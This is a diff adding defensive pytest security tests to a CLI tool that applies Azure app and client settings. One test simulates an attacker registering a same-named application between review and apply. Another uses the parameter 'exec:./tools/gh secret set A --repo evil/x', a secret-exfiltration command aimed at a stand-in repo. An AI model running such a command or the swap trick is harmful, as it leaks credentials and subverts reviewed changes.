@@ -2,12 +2,17 @@
 
 from __future__ import annotations
 
+import html
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
+from mct_s2s.cli.applying import site_run, whole_run
+from mct_s2s.sandbox.state import seed
 
 from tests.cli.conftest import Program
 from tests.conftest import Sandbox
+from tests.security.people import Member
 
 
 @pytest.fixture
@@ -50,6 +55,47 @@ def test_the_file_cannot_say_who_agrees_or_what_is_checked(mct: Program, azure: 
         done = mct("apply", "-f", str(file), "--dry-run", "-o", "json")
         assert (done.code, done.document["error"]["code"]) == (2, "trust-file-malformed")
     assert azure.writes() == []
+
+
+def test_a_reviewed_plan_gives_nothing_to_what_someone_registers_meanwhile(
+    mct: Program,
+    azure: Sandbox,
+    member: Callable[[str], Member],
+    file: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """The plan said: as made by this run. Whoever may write the settings lists their own application of that name."""
+    file.write_text("[sites.contosolearn]\n[[sites.contosolearn.clients]]\nname = 'Nightly export'\n")
+    reviewed = mct("apply", "-f", str(file), "--dry-run", "-o", "json").document["fingerprint"]
+    attacker = member("mallory")
+
+    def show_review(*_: object) -> None:
+        made = attacker.graph("POST", "/applications", json={"displayName": "Nightly export"})
+        attacker.graph("POST", "/servicePrincipals", json={"appId": made["appId"]})
+        azure.write_settings({**azure.settings(), "ServiceApplicationIds": made["appId"]})
+        azure.forget()
+
+    monkeypatch.setattr(site_run, "STALE_SECONDS", -1.0)
+    monkeypatch.setattr(whole_run, "show_review", show_review)
+    done = mct("apply", "-f", str(file), "--expect", reviewed, "--yes", "-o", "json")
+    (site,) = done.document["sites"]
+    assert (done.code, site["error"]["error"]["code"], azure.writes()) == (2, "plan-changed", [])
+
+
+@pytest.mark.parametrize("place", ["exec:./tools/gh secret set A --repo evil/x", f"keyvault:{seed.VAULT}", "file:elsewhere/"])
+def test_where_a_secret_goes_is_reviewed_whether_or_not_one_is_made_now(mct: Program, file: Path, place: str) -> None:
+    client = "[sites.contosolearn]\n[[sites.contosolearn.clients]]\nname = 'A'\n"
+    file.write_text(client)
+    assert mct("apply", "-f", str(file), "--yes", "--no-verify").code == 0
+    before = mct("apply", "-f", str(file), "--dry-run", "-o", "json").document
+    file.write_text(f"{client}secret-to = '{place}'\n")
+    after = mct("apply", "-f", str(file), "--dry-run", "-o", "json").document
+    assert before["fingerprint"] != after["fingerprint"]
+    told = f"The secret of 'A' goes to: {place}"
+    assert told in [note["text"] for note in after["sites"][0]["result"]["notes"]]
+    assert told in " ".join(mct("apply", "-f", str(file), "--dry-run").out.split())
+    page = mct("apply", "-f", str(file), "--dry-run", "-o", "markdown").out
+    assert place in html.unescape(page).replace("`", "")
 
 
 def test_nothing_in_the_file_steers_a_terminal(mct: Program, file: Path) -> None:
